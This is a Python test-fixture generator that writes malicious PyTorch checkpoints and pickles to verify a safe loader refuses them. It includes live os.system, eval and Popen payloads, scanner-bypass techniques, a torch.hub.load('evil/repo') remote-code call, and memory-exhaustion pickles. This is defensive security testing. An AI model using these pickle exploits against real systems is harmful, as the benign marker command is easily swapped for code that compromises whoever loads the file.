#!/usr/bin/python3
"""Writes the hostile corpus: files a safe loader must refuse (or load exactly as specified) without
running anything, in bounded time and memory.

Usage: make_hostile.py OUTDIR MARKER_DIR

Categories: code_execution (pickles that call os.system, eval, subprocess, the published scanner
bypasses: getattr chains, operator.attrgetter/methodcaller, functools.partial, pkgutil.resolve_name,
runpy._run_code, nested torch.load and numpy.load, INST/OBJ/NEWOBJ/NEWOBJ_EX/STACK_GLOBAL/EXT,
memoized globals, dotted, padded and look-alike names, payloads in the legacy stream's other
pickles), resource_exhaustion, structural (opcodes on the wrong type), forged_tensor, zip_trick,
legacy_trick, safetensors_header, and the plain corrupt files.

Each code_execution file would create MARKER_DIR/<name> if its payload ran; the files marked
"live" really do so under torch.load(weights_only=False) (HostileCorpusTest proves it), so a test
proves that nothing ran by checking that the marker does not exist. Building them runs nothing:
pickling only records the callable's name.

OUTDIR/manifest.json (written last) lists every file:
  file              name inside OUTDIR
  kind              code_execution | corrupt (everything else)
  category          code_execution | resource_exhaustion | structural | forged_tensor | zip_trick |
                    legacy_trick | safetensors_header | corrupt
  container         torch-zip | torch-legacy | safetensors | npy | none
  loader            torch (Torch.load) | safetensors (SafeTensors.load)
  record            the record holding the hostile pickle ("archive/data.pkl"), or null
  marker            absolute path of the file the payload would create, or null
  live              true when torch.load(weights_only=False) really runs the payload
  hidden            true when the payload sits where torch.load never reads (a second pickle after
                    data.pkl's STOP, an extra .pkl record): torch loads such files, pith scan flags them
  global            the first global a safe loader refuses, as the pickle spells it, or null
  opcode            how the pickle names it: GLOBAL, INST, STACK_GLOBAL, EXT, or null
  globals           every global the file's pickles name (pickletools' view), in order
  outcome           refused | loaded
  expected_error    the Pith exception class (simple name) a refusal throws, or null when loaded
  message_contains  a substring the refusal's message must contain, or null
  expected          for loaded files: {"keys": [...], "tensors": {key: {"dtype", "shape" or "rank",
                    "stride", "first"}}, "value": <JSON>, "len": n}; null otherwise
  description       what the file is
"""
import builtins
import collections
import io
import json
import os
import pickle
import pickletools
import posix
import random
import shlex
import struct
import subprocess
import sys
import zipfile

import numpy
import torch

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from hostile_bytes import *  # noqa: E402,F401,F403  (the byte builders)
import hostile_bytes as hb  # noqa: E402

KNOWN_DANGEROUS_MODULES = ("posix", "nt", "os", "builtins", "__builtin__", "subprocess")


def globals_of(data):
    """Every global named by the pickles in `data` (one or several in a row), as (module.name, opcode)."""
    found = []
    stream = io.BytesIO(data)
    try:
        while stream.tell() < len(data):
            strings = []
            for opcode, arg, _ in pickletools.genops(stream):
                if opcode.name in ("GLOBAL", "INST"):
                    module, name = arg.split(" ", 1)
                    found.append((f"{module}.{name}", opcode.name))
                elif opcode.name == "STACK_GLOBAL" and len(strings) >= 2:
                    found.append((f"{strings[-2]}.{strings[-1]}", opcode.name))
                elif isinstance(arg, str):
                    strings.append(arg)
    except Exception:  # noqa: BLE001 - broken pickles list what was found before the break
        pass
    return [g for g, _ in found]


def expected_message(global_name, opcode):
    """The old rule: "unsafe global m.n" for the well-known code runners named by GLOBAL, else "global m.n"."""
    if opcode != "GLOBAL":
        return None
    module = global_name.split(".", 1)[0]
    return ("unsafe global " if module in KNOWN_DANGEROUS_MODULES else "global ") + global_name


def pickle_of(path, record):
    if record is None:
        with open(path, "rb") as f:
            return f.read()
    with zipfile.ZipFile(path) as z:
        return z.read(record)


class Corpus:
    def __init__(self, outdir, marker_dir):
        self.outdir, self.marker_dir = outdir, marker_dir
        self.entries = []

    def path(self, file_name):
        return os.path.join(self.outdir, file_name)

    def marker(self, name):
        return os.path.join(self.marker_dir, name)

    def touch(self, name):
        return "touch " + shlex.quote(self.marker(name))

    def eval_source(self, name):
        return f"open({self.marker(name)!r}, 'w').close()"

    def add(self, file_name, data, category, description, *, outcome="refused", error="FileFormatException",
            contains=None, container="torch-zip", loader="torch", record=None, marker=None, live=False,
            global_=None, opcode=None, expected=None):
        assert not any(e["file"] == file_name for e in self.entries), file_name
        if data is not None:
            with open(self.path(file_name), "wb") as f:
                f.write(data)
        if record is None and container == "torch-zip" and category in ("code_execution",):
            record = "archive/data.pkl"
        try:
            names = globals_of(pickle_of(self.path(file_name), record)) if container in ("torch-zip", "torch-legacy") \
                and (record is not None or container == "torch-legacy") else []
        except Exception:  # noqa: BLE001 - a broken zip has no readable record
            names = []
        self.entries.append({
            "file": file_name,
            "kind": "code_execution" if category == "code_execution" else "corrupt",
            "category": category,
            "container": container,
            "loader": loader,
            "record": record,
            "marker": marker,
            "live": live,
            "hidden": False,
            "global": global_,
            "opcode": opcode,
            "globals": names,
            "outcome": outcome,
            "expected_error": None if outcome == "loaded" else error,
            "message_contains": contains,
            "expected": expected,
            "description": description,
        })

    def code(self, name, data, description, *, global_, opcode="GLOBAL", contains=None, live=True,
             container="torch-zip", record="archive/data.pkl", error="UnsafePickleException", marker=True,
             outcome="refused", expected=None):
        """A code-execution file; `contains` defaults to "unsafe global <global_>". A bare pickle for a
        torch-zip container becomes its archive/data.pkl."""
        if container == "torch-zip" and not data.startswith(b"PK"):
            data = torch_zip(data)
        self.add(name + ".pth", data, "code_execution", description, outcome=outcome, error=error,
                 contains=contains if contains is not None else f"unsafe global {global_}",
                 container=container, record=record if container == "torch-zip" else None,
                 marker=self.marker(name) if marker else None, live=live, global_=global_, opcode=opcode,
                 expected=expected)


def system_call(c, name, module="posix"):
    """module.system('touch MARKER') as protocol-2 GLOBAL + REDUCE."""
    return call(glob(module, "system"), ustr(c.touch(name)))


def small_state_dict_pickle(value=1.5):
    """{'w': tensor([value, 2.0])} pickled as torch.save does, with its storage record."""
    storage = StorageRef("0", torch.FloatStorage, 2)
    return torch_pickle({"w": FakeTensor(storage, 0, (2,), (1,))}), {"0": floats(value, 2.0)}


SMALL_EXPECTED = {"keys": ["w"], "tensors": {"w": {"dtype": "float32", "shape": [2], "stride": [1], "first": 1.5}}}


def tensor_zip(tensors, records, protocol=2):
    return torch_zip(torch_pickle(tensors, protocol), records)


# ---------------------------------------------------------------------------------------------------
# the original hostile files (kept with their names: other tests refer to them)


def original_files(c):
    def code_execution(name, payload, description, container="torch-zip", protocol=2, expected_global=None,
                       fix_imports=True):
        pickled = pickle.dumps(payload, protocol=protocol, fix_imports=fix_imports)
        if container == "torch-zip":
            data = torch_zip(pickled)
        else:
            data = legacy(pickled, [])
        opcode = "STACK_GLOBAL" if protocol >= 4 else "GLOBAL"
        c.code(name, data, description, global_=expected_global, opcode=opcode,
               contains=expected_message(expected_global, "GLOBAL"), container=container)

    code_execution("os_system", Reduce(os.system, (c.touch("os_system"),)),
                   "data.pkl calls os.system('touch MARKER') (pickled as posix.system)", expected_global="posix.system")
    code_execution("posix_system", Reduce(posix.system, (c.touch("posix_system"),)),
                   "data.pkl calls posix.system('touch MARKER')", expected_global="posix.system")
    code_execution("builtins_eval", Reduce(builtins.eval, (c.eval_source("builtins_eval"),)),
                   "data.pkl calls builtins.eval(\"open(MARKER, 'w').close()\"), named builtins.eval",
                   expected_global="builtins.eval", fix_imports=False)
    code_execution("builtin_eval", Reduce(builtins.eval, (c.eval_source("builtin_eval"),)),
                   "data.pkl calls eval(\"open(MARKER, 'w').close()\") named __builtin__.eval, as pickle's "
                   "protocol 2 writes it by default", expected_global="__builtin__.eval")
    code_execution("builtin_exec", Reduce(builtins.exec, (c.eval_source("builtin_exec"),)),
                   "data.pkl calls exec(\"open(MARKER, 'w').close()\") named __builtin__.exec",
                   expected_global="__builtin__.exec")
    code_execution("subprocess_popen", Reduce(subprocess.Popen, (["touch", c.marker("subprocess_popen")],)),
                   "data.pkl calls subprocess.Popen(['touch', MARKER])", expected_global="subprocess.Popen",
                   fix_imports=False)
    code_execution("commands_popen", Reduce(subprocess.Popen, (["touch", c.marker("commands_popen")],)),
                   "data.pkl calls subprocess.Popen(['touch', MARKER]), named commands.Popen as pickle's "
                   "protocol 2 writes it by default (Python 3 maps it back to subprocess.Popen)",
                   expected_global="commands.Popen")
    code_execution("stack_global_os_system", Reduce(os.system, (c.touch("stack_global_os_system"),)),
                   "pickle protocol 4: os.system named by STACK_GLOBAL", protocol=4, expected_global="posix.system")
    code_execution("legacy_os_system", Reduce(os.system, (c.touch("legacy_os_system"),)),
                   "legacy (non-zip) stream whose object pickle calls os.system", container="torch-legacy",
                   expected_global="posix.system")

    torch.manual_seed(0)
    payload_sd = collections.OrderedDict([
        ("weight", torch.randn(3, 4)),
        ("bias", torch.randn(3)),
        ("evil", Reduce(os.system, (c.touch("payload_in_state_dict"),))),
    ])
    buffer = io.BytesIO()
    torch.save(payload_sd, buffer)
    c.code("payload_in_state_dict", buffer.getvalue(),
           "torch.save of a state dict whose last value calls os.system after two real tensors",
           global_="posix.system", contains="unsafe global posix.system")

    torch.manual_seed(0)
    valid_sd = collections.OrderedDict([("weight", torch.randn(64, 64)), ("bias", torch.randn(64))])
    buffer = io.BytesIO()
    torch.save(valid_sd, buffer)
    valid_zip = buffer.getvalue()
    c.add("truncated.pth", valid_zip[:len(valid_zip) // 2], "corrupt",
          "a valid torch zip (state dict of 2 tensors) cut in half")
    buffer = io.BytesIO()
    torch.save(valid_sd, buffer, _use_new_zipfile_serialization=False)
    legacy_bytes = bytearray(buffer.getvalue())
    magic = pickle.dumps(MAGIC_NUMBER, protocol=2)[2:-1]
    assert legacy_bytes.startswith(b"\x80\x02" + magic)
    legacy_bytes[5] ^= 0xFF
    c.add("wrong_magic.pth", bytes(legacy_bytes), "corrupt", "a legacy torch stream whose magic number is corrupted",
          container="torch-legacy", contains="magic number")
    c.add("garbage.pth", random.Random(0).randbytes(4096), "corrupt", "4096 random bytes", container="none")
    c.add("empty.pth", b"", "corrupt", "an empty file", container="none", contains="empty file")
    c.add("git_lfs_pointer.pth",
          b"version https://git-lfs.github.com/spec/v1\n"
          b"oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n"
          b"size 46830571\n", "corrupt", "a Git LFS pointer file where the checkpoint should be", container="none",
          contains="not a PyTorch file")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as z:
        z.writestr("archive/version", "3\n")
    c.add("zip_without_data_pkl.pth", buffer.getvalue(), "corrupt", "a zip with archive/version but no data.pkl",
          contains="no data.pkl")


# ---------------------------------------------------------------------------------------------------
# code execution: opcodes, bypasses, names


def code_execution_files(c):
    def cmd(name):
        return ustr(c.touch(name))

    c.code("inst_os_system", MARK + text(c.touch("inst_os_system")) + inst("os", "system") + STOP,
           "protocol 0: INST os.system with the command as its argument", global_="os.system", opcode="INST")
    c.code("obj_posix_system", proto2(MARK + glob("posix", "system") + cmd("obj_posix_system") + b"o"),
           "OBJ: MARK, posix.system, the command, OBJ calls it", global_="posix.system")
    c.code("newobj_popen", proto2(glob("subprocess", "Popen") + MARK + ustr("touch") + ustr(c.marker("newobj_popen"))
                                  + b"l" + TUPLE1 + NEWOBJ),
           "NEWOBJ on subprocess.Popen (Popen.__new__ runs nothing in Python: not live)",
           global_="subprocess.Popen", live=False)
    c.code("newobj_ex_popen", proto4(sstr("subprocess") + sstr("Popen") + STACK_GLOBAL + MARK + ustr("touch")
                                     + ustr(c.marker("newobj_ex_popen")) + b"l" + TUPLE1 + EMPTY_DICT + NEWOBJ_EX),
           "protocol 4: NEWOBJ_EX on subprocess.Popen named by STACK_GLOBAL (not live)",
           global_="subprocess.Popen", opcode="STACK_GLOBAL", live=False)
    c.code("stack_global_from_memo",
           proto4(sstr("posix") + MEMOIZE + POP + sstr("system") + MEMOIZE + POP + binget(0) + binget(1)
                  + STACK_GLOBAL + cmd("stack_global_from_memo") + TUPLE1 + REDUCE),
           "STACK_GLOBAL whose module and name come from the memo (a scanner reading the previous two strings "
           "sees nothing)", global_="posix.system", opcode="STACK_GLOBAL")
    c.code("memoized_global_binget",
           proto2(glob("posix", "system") + binput(0) + POP + NONE + POP + binget(0) + cmd("memoized_global_binget")
                  + TUPLE1 + REDUCE),
           "posix.system memoized with BINPUT and popped, called later through BINGET",
           global_="posix.system")
    for op, code_bytes, label in ((b"\x82", bytes([1]), 1), (b"\x83", struct.pack("<H", 513), 513),
                                  (b"\x84", struct.pack("<i", 70000), 70000)):
        name = {1: "ext1_code", 513: "ext2_code", 70000: "ext4_code"}[label]
        c.code(name, proto2(op + code_bytes + cmd(name) + TUPLE1 + REDUCE),
               f"a callable named by copyreg extension code {label} (EXT{len(code_bytes)}); nothing is registered "
               "in a fresh Python, so not live", global_=None, opcode="EXT", contains=f"extension code {label}",
               live=False)
    c.code("getattr_import_chain",
           proto2(call(call(glob("__builtin__", "getattr"), call(glob("__builtin__", "__import__"), ustr("os")),
                            ustr("system")), cmd("getattr_import_chain"))),
           "__builtin__.getattr(__builtin__.__import__('os'), 'system')(cmd): the classic denylist bypass",
           global_="__builtin__.getattr")
    c.code("operator_attrgetter",
           proto2(call(call(call(glob("operator", "attrgetter"), ustr("system")),
                            call(glob("builtins", "__import__"), ustr("os"))), cmd("operator_attrgetter"))),
           "operator.attrgetter('system')(__import__('os'))(cmd)", global_="operator.attrgetter")
    c.code("operator_methodcaller",
           proto2(call(call(glob("operator", "methodcaller"), ustr("system"), cmd("operator_methodcaller")),
                       call(glob("builtins", "__import__"), ustr("os")))),
           "operator.methodcaller('system', cmd)(__import__('os'))", global_="operator.methodcaller")
    c.code("functools_partial",
           proto2(call(glob("functools", "partial"), glob("posix", "system"), cmd("functools_partial"))
                  + EMPTY_TUPLE + REDUCE),
           "functools.partial(posix.system, cmd)()", global_="functools.partial")
    c.code("pkgutil_resolve_name",
           proto2(call(call(glob("pkgutil", "resolve_name"), ustr("os:system")), cmd("pkgutil_resolve_name"))),
           "pkgutil.resolve_name('os:system')(cmd)", global_="pkgutil.resolve_name")
    c.code("runpy_run_code",
           proto2(call(glob("runpy", "_run_code"), ustr(c.eval_source("runpy_run_code")), EMPTY_DICT)),
           "runpy._run_code(source, {}): exec in disguise", global_="runpy._run_code")

    inner = "torch_load_nested_inner.pth"
    c.code("torch_load_nested_inner", torch_zip(proto2(system_call(c, "torch_load_nested"))),
           "the file torch_load_nested.pth loads: os.system touching torch_load_nested's marker",
           global_="posix.system")
    c.entries[-1]["marker"] = c.marker("torch_load_nested")
    c.code("torch_load_nested", torch_zip(proto2(call(glob("torch.serialization", "load"), ustr(c.path(inner))))),
           "torch.serialization.load(another hostile file): torch.load inside a pickle",
           global_="torch.serialization.load")

    npy = "numpy_load_payload.npy"
    numpy.save(c.path(npy), numpy.array([Reduce(os.system, (c.touch("numpy_load"),)), None], dtype=object),
               allow_pickle=True)
    c.add(npy, None, "corrupt", "the .npy file numpy_load.pth loads: an object array pickling os.system",
          container="npy", marker=c.marker("numpy_load"), contains="not a PyTorch file")
    c.code("numpy_load", torch_zip(proto2(call(glob("numpy", "load"), ustr(c.path(npy)), NONE, b"\x88"))),
           "numpy.load(an .npy file of pickled objects, None, allow_pickle=True)", global_="numpy.load")

    for name, module, fn, why in (
            ("padded_module", "os ", "system", "module 'os ' with a trailing space"),
            ("padded_module_leading", " posix", "system", "module ' posix' with a leading space"),
            ("padded_name_tab", "posix", "system\t", "name 'system\\t' with a trailing tab")):
        c.code(name, proto2(call(glob(module, fn), cmd(name))),
               f"{why}: a denylist comparing exact strings misses it; Python cannot import it (not live)",
               global_=f"{module}.{fn}", live=False)
    c.code("dotted_stack_global",
           proto4(sstr("torch.serialization") + sstr("os.system") + STACK_GLOBAL + cmd("dotted_stack_global")
                  + TUPLE1 + REDUCE),
           "protocol 4 resolves dotted names: STACK_GLOBAL('torch.serialization', 'os.system') is os.system",
           global_="torch.serialization.os.system", opcode="STACK_GLOBAL")
    c.code("dotted_global_proto4",
           proto4(call(glob("torch", "serialization.os.system"), cmd("dotted_global_proto4"))),
           "GLOBAL torch / serialization.os.system under PROTO 4: a dotted name reaching os.system",
           global_="torch.serialization.os.system")
    c.code("os_path_join", proto2(call(glob("os.path", "join"), ustr("a"), ustr("b"))),
           "os.path.join('a', 'b'): harmless in itself, but from a module the allow-list never opens",
           global_="os.path.join", live=False, marker=False)
    c.code("fullwidth_os", proto2(call(glob("\uff4f\uff53", "system"), cmd("fullwidth_os"))),
           "module named with fullwidth letters (NFKC 'os'): a look-alike of os.system", global_="\uff4f\uff53.system",
           live=False)
    c.code("greek_omicron_os", proto2(call(glob("\u03bfs", "system"), cmd("greek_omicron_os"))),
           "module named with a Greek omicron: a look-alike of os.system", global_="\u03bfs.system",
           contains="unknown global \u03bfs.system", live=False)
    c.code("torch_hub_load", proto2(call(glob("torch.hub", "load"), ustr("evil/repo"), ustr("model"))),
           "torch.hub.load('evil/repo', 'model'): would download and run code (not live: no network)",
           global_="torch.hub.load", live=False, marker=False)

    obj, records = small_state_dict_pickle()
    od = collections.OrderedDict(w=1)
    od_pickle = proto2(call(glob("collections", "OrderedDict")) + MARK + ustr("w") + binint(1) + SETITEMS
                       + MARK + ustr("_metadata") + EMPTY_DICT + ustr("") + system_call(c, "payload_in_metadata")
                       + SETITEM + b"d" + BUILD)
    del od
    c.code("payload_in_metadata", torch_zip(od_pickle),
           "an OrderedDict whose BUILD state (_metadata, as in every state dict) holds an os.system call",
           global_="posix.system")
    pid_pickle = proto2(MARK + ustr("storage") + system_call(c, "payload_in_persistent_id") + ustr("0") + ustr("cpu")
                        + binint(1) + TUPLE + b"Q")
    c.code("payload_in_persistent_id", torch_zip(pid_pickle),
           "a persistent id tuple whose storage class is an os.system call", global_="posix.system")

    # legacy stream: every one of its pickles is unpickled by torch.load
    valid_obj = torch_pickle({"w": FakeTensor(StorageRef("0", legacy=True, numel=2), 0, (2,), (1,))})
    blobs = [(2, floats(1.5, 2.0))]
    c.code("legacy_magic_payload", legacy(valid_obj, ["0"], blobs, magic=proto2(system_call(c, "legacy_magic_payload"))),
           "legacy stream whose first pickle (the magic number) calls os.system", global_="posix.system",
           container="torch-legacy")
    c.code("legacy_sys_info_payload",
           legacy(valid_obj, ["0"], blobs, sys_info=proto2(system_call(c, "legacy_sys_info_payload"))),
           "legacy stream whose sys_info pickle calls os.system", global_="posix.system", container="torch-legacy")
    c.code("legacy_keys_payload",
           legacy(valid_obj, ["0"], blobs, keys_pickle=proto2(system_call(c, "legacy_keys_payload"))),
           "legacy stream whose storage-key list pickle calls os.system", global_="posix.system",
           container="torch-legacy")
    c.code("legacy_inst", legacy(MARK + text(c.touch("legacy_inst")) + inst("os", "system") + STOP, []),
           "legacy stream whose object pickle is protocol 0 INST os.system", global_="os.system", opcode="INST",
           container="torch-legacy")

    # hidden pickles a loader never reads: Pith refuses or ignores them, pith scan must flag them
    hidden = torch_zip(obj, records)
    entries = torch_entries(obj, records=records) + [Entry("archive/extra.pkl", proto2(system_call(c, "extra_pkl")))]
    c.code("extra_pkl_record", zip_bytes(entries),
           "a valid state dict plus archive/extra.pkl calling os.system, a record torch.load never reads: "
           "loads, and pith scan flags it", global_="posix.system", record="archive/extra.pkl", live=False,
           outcome="loaded", expected=SMALL_EXPECTED)
    c.entries[-1]["hidden"] = True
    del hidden
    c.code("pickle_after_stop", torch_zip(obj + proto2(system_call(c, "pickle_after_stop")), records),
           "data.pkl holds a valid pickle and, after its STOP, a second pickle calling os.system",
           global_="posix.system", live=False, error="FileFormatException", contains="after the pickle's STOP")
    c.entries[-1]["hidden"] = True
    ts_entries = torch_entries(obj, records=records) + [
        Entry("archive/constants.pkl", proto2(system_call(c, "torchscript_payload"))),
        Entry("archive/code/__torch__.py", b"import os\nos.system('true')\n")]
    c.code("torchscript_payload", zip_bytes(ts_entries),
           "a TorchScript-like archive whose constants.pkl calls os.system (CVE-2025-32434's route)",
           global_="posix.system", record="archive/constants.pkl", live=False, error="FileFormatException",
           contains="TorchScript")


# ---------------------------------------------------------------------------------------------------
# resource exhaustion and structural errors in pickles


def pickle_attack_files(c):
    def re(name, pickle_bytes, description, error="LimitExceededException", contains=None, container="torch-zip",
           outcome="refused", expected=None):
        data = torch_zip(pickle_bytes) if container == "torch-zip" else legacy(pickle_bytes, [])
        c.add(name + ".pth", data, "resource_exhaustion", description, error=error, contains=contains,
              container=container, outcome=outcome, expected=expected)

    re("huge_binunicode_length", PROTO2 + b"X" + struct.pack("<I", 0xFFFFFFFF) + b"abc" + STOP,
       "BINUNICODE declaring 4 GiB - 1 bytes (3 follow)", contains="more than the limit")
    re("huge_binbytes8_length", PROTO4 + b"\x8e" + struct.pack("<Q", 1 << 62) + b"abc" + STOP,
       "BINBYTES8 declaring 2^62 bytes", contains="more than the limit")
    re("binunicode8_length_above_2_63", PROTO4 + b"\x8d" + struct.pack("<Q", (1 << 64) - 1) + STOP,
       "BINUNICODE8 declaring 2^64 - 1 bytes (negative as a Java long)", contains="18446744073709551615")
    re("declared_length_truncated", PROTO2 + b"X" + struct.pack("<I", 100_000_000) + b"abc" + STOP,
       "BINUNICODE declaring 100 MB (within limits) of which 4 bytes exist", error="FileFormatException",
       contains="truncated pickle")
    re("giant_long4", PROTO2 + b"\x8b" + struct.pack("<i", 0x7FFFFFFF) + b"\x01" * 16 + STOP,
       "LONG4 declaring a 2 GiB integer", contains="more than the limit")
    re("long_text_million_digits", PROTO2 + b"L" + b"7" * 1_000_000 + b"L\n" + STOP,
       "LONG with a million decimal digits (quadratic to convert; CPython refuses more than 4300)",
       contains="4300 digits")
    re("int_text_many_digits", b"I" + b"9" * 50_000 + b"\n" + STOP,
       "protocol 0 INT with 50,000 decimal digits", contains="4300 digits")
    re("float_text_huge", b"F" + b"1" * 5_000_000 + b".5\n" + STOP,
       "protocol 0 FLOAT with 5 million digits: parses in linear time to inf", outcome="loaded",
       expected={"value": "inf"})
    re("memo_index_huge", PROTO2 + NONE + b"r" + struct.pack("<I", 0xFFFFFFF0) + STOP,
       "LONG_BINPUT at memo index 4294967280", contains="memo index")
    re("memo_flood_limit", PROTO4 + NONE + MEMOIZE * 10_000_001 + STOP,
       "10,000,001 MEMOIZE opcodes (one more memo entry than the default memo limit): the memory budget refuses "
       "them first", contains="bytes of memory")
    sparse = bytearray(PROTO2 + NONE)
    for i in range(300_000):
        sparse += b"r" + struct.pack("<I", i * 33)
    re("memo_flood_sparse", bytes(sparse) + STOP,
       "300,000 LONG_BINPUTs at indices spread over 10 million (sparse memo): loads", outcome="loaded",
       expected={"value": None})
    re("deep_marks", PROTO2 + MARK * 100_000 + STOP, "100,000 nested MARKs", contains="nested deeper")
    re("deep_tuple_nesting", PROTO2 + NONE + TUPLE1 * 1_000_000 + STOP,
       "a tuple nested a million deep without a single MARK", contains="nested deeper")
    lists = bytearray(PROTO2 + EMPTY_LIST + binput(0) + POP)
    lists += (EMPTY_LIST + binget(0) + APPEND + binput(0) + POP) * 300_000
    re("deep_list_nesting", bytes(lists + binget(0) + STOP),
       "a list nested 300,000 deep through the memo", contains="nested deeper")
    key = NONE + TUPLE1 * 150
    re("dict_key_nested_deep", proto2(EMPTY_DICT + key + NONE + SETITEM),
       "a dict key of 150 nested tuples", contains="nested deeper")
    shared = bytearray(PROTO2 + NONE)
    for _ in range(19):
        shared += DUP + b"\x86"  # (x, x): doubles the values hashing reaches
    shared += binput(0) + POP + EMPTY_DICT + MARK
    for i in range(200_000):
        shared += binget(0) + binint(i % 200)
    re("hash_cost_flood", bytes(shared + SETITEMS + STOP),
       "200,000 SETITEMs keyed by one tuple whose hashing reaches 2^19 values (exponential sharing)",
       contains="to hash")
    collide = bytearray(PROTO2 + EMPTY_DICT + MARK)
    for i in range(100_000):
        # (i, (-31 i) mod 2^32) all hash alike in Java: 31 * hash(i) + hash(b) is constant
        collide += (b"\x8a\x08" + struct.pack("<q", i) + b"\x8a\x08" + struct.pack("<q", (-31 * i) & 0xFFFFFFFF)
                    + b"\x86" + NONE)
    re("hash_collision_keys", bytes(collide + SETITEMS + STOP),
       "a dict of 100,000 distinct tuple keys with one Java hash code (quadratic in a naive hash map)",
       outcome="loaded", expected={"len": 100_000})
    re("many_small_allocations", PROTO2 + EMPTY_DICT * 6_000_000 + STOP,
       "6 million empty dicts on the stack from a 6 MB pickle", contains="memory")
    re("huge_frame", PROTO4 + b"\x95" + struct.pack("<Q", 1 << 62) + NONE + STOP,
       "FRAME declaring 2^62 bytes", error="FileFormatException", contains="truncated pickle")
    re("global_without_newline", PROTO2 + b"c" + b"a" * 3_000_000, "GLOBAL whose module name never ends",
       error="FileFormatException", contains="no newline")
    storage = StorageRef("0", torch.FloatStorage, 1)
    flood = bytearray(PROTO2 + glob("torch._utils", "_rebuild_tensor_v2") + binput(0) + POP)
    flood += (MARK + MARK + ustr("storage") + glob("torch", "FloatStorage") + ustr("0") + ustr("cpu") + binint(1) + TUPLE
              + b"Q" + binint(0) + MARK + binint(1) + TUPLE + MARK + binint(1) + TUPLE + NEWFALSE
              + call(glob("collections", "OrderedDict")) + TUPLE + binput(1) + POP)
    flood += (binget(0) + binget(1) + REDUCE + POP) * 1_100_000
    del storage
    c.add("tensor_flood.pth", torch_zip(bytes(flood + NONE + STOP), {"0": floats(1.0)}), "resource_exhaustion",
          "1.1 million tensors built from one memoized argument tuple: more than the default tensor limit",
          error="LimitExceededException", contains="tensors")


def structural_files(c):
    obj, records = small_state_dict_pickle()
    tensor = torch_pickle(FakeTensor(StorageRef("0", torch.FloatStorage, 2), 0, (2,), (1,)))[:-1]

    def st(name, pickle_bytes, description, contains, error="FileFormatException"):
        c.add(name + ".pth", torch_zip(pickle_bytes, records), "structural", description, error=error,
              contains=contains)

    st("setitem_on_list", proto2(EMPTY_LIST + ustr("k") + ustr("v") + SETITEM), "SETITEM on a list", "SETITEM on list")
    st("append_on_dict", proto2(EMPTY_DICT + NONE + APPEND), "APPEND on a dict", "APPEND on dict")
    st("build_on_tensor", tensor + EMPTY_DICT + BUILD + STOP, "BUILD on a tensor (Tensor.__setstate__ in Python)",
       "BUILD on")
    st("setitems_on_tensor", tensor + MARK + ustr("k") + NONE + SETITEMS + STOP, "SETITEMS on a tensor",
       "SETITEMS on")
    st("appends_on_tensor", tensor + MARK + NONE + b"e" + STOP, "APPENDS on a tensor", "APPENDS on")
    st("reduce_on_str", proto2(ustr("posix.system") + EMPTY_TUPLE + REDUCE), "REDUCE on a str", "REDUCE on str")
    st("reduce_on_tensor", tensor + EMPTY_TUPLE + REDUCE + STOP, "REDUCE on a tensor", "REDUCE on")
    st("newobj_on_int", proto2(binint(3) + EMPTY_TUPLE + NEWOBJ), "NEWOBJ on an int", "NEWOBJ on int")
    st("build_state_not_dict", proto2(call(glob("collections", "OrderedDict")) + ustr("x") + BUILD),
       "an OrderedDict's BUILD state is a str", "BUILD state must be a dict")
    st("unhashable_dict_key", proto2(EMPTY_DICT + EMPTY_LIST + NONE + SETITEM), "a list as a dict key",
       "unhashable dict key")
    st("stack_underflow", proto2(REDUCE), "REDUCE on an empty stack", "stack underflow")
    st("stop_on_empty_stack", PROTO2 + STOP, "STOP with nothing on the stack", "stack underflow")
    st("unknown_opcode", PROTO2 + b"\xff" + STOP, "opcode 0xff", "unknown opcode 0xff")
    st("protocol_6", b"\x80\x06" + NONE + STOP, "PROTO 6", "unsupported pickle protocol")
    st("next_buffer", b"\x80\x05" + b"\x97" + STOP, "protocol 5 NEXT_BUFFER (out-of-band data)", "out-of-band")
    st("persistent_id_not_tuple", proto2(ustr("0") + b"Q"), "BINPERSID of a str", "is not a ('storage', ...) tuple")
    st("stack_global_not_strings", proto4(binint(1) + binint(2) + STACK_GLOBAL), "STACK_GLOBAL of two ints",
       "STACK_GLOBAL needs two str")
    st("memo_get_missing", proto2(binget(7)), "BINGET of an empty memo slot", "no memo entry 7")


# ---------------------------------------------------------------------------------------------------
# forged tensor metadata


def forged_tensor_files(c):
    def ft(name, tensors, records, description, contains, outcome="refused", expected=None, error="FileFormatException"):
        c.add(name + ".pth", tensor_zip(tensors, records), "forged_tensor", description, contains=contains,
              outcome=outcome, expected=expected, error=error)

    def s(numel, key="0", cls=torch.FloatStorage):
        return StorageRef(key, cls, numel)

    four = {"0": floats(1.5, 2.0, 3.0, 4.0)}
    ft("numel_times_elemsize_overflow", {"w": FakeTensor(s(1 << 62), 0, (1,), (1,))}, four,
       "a float storage of 2^62 elements: numel x 4 overflows a 64-bit size", "overflows")
    ft("record_smaller_than_declared", {"w": FakeTensor(s(1000), 0, (4,), (1,))}, four,
       "the pickle declares 1000 floats, the record holds 4", "but the pickle declares 4000")
    ft("record_larger_than_declared", {"w": FakeTensor(s(2), 0, (2,), (1,))}, four,
       "the pickle declares 2 floats, the record holds 4", "storage record has 16 bytes but the pickle declares 8")
    ft("offset_outside_record", {"w": FakeTensor(s(4), 100, (1,), (1,))}, four,
       "storage offset 100 in a 4-element storage", "needs 404 bytes")
    ft("strides_outside_record", {"w": FakeTensor(s(4), 0, (2, 2), (100, 1))}, four,
       "a 2x2 view with stride 100 over 4 elements", "needs")
    ft("negative_size", {"w": FakeTensor(s(4), 0, (-1,), (1,))}, four, "size (-1,)", "negative dimension")
    ft("negative_stride", {"w": FakeTensor(s(4), 2, (2,), (-1,))}, four, "stride (-1,)", "negative stride")
    ft("negative_offset", {"w": FakeTensor(s(4), -1, (1,), (1,))}, four, "storage offset -1", "negative storage offset")
    ft("rank_1000", {"w": FakeTensor(s(4), 0, (1,) * 1000, (1,) * 1000)}, four, "a tensor of rank 1000",
       "1000 dimensions")
    ft("shape_stride_rank_mismatch", {"w": FakeTensor(s(4), 0, (2, 2), (1,))}, four, "size of rank 2, stride of rank 1",
       "differ in rank")
    ft("shape_numel_overflow", {"w": FakeTensor(s(4), 0, (1 << 40, 1 << 40), (0, 0))}, four,
       "a stride-0 view whose element count (2^80) overflows", "overflows")
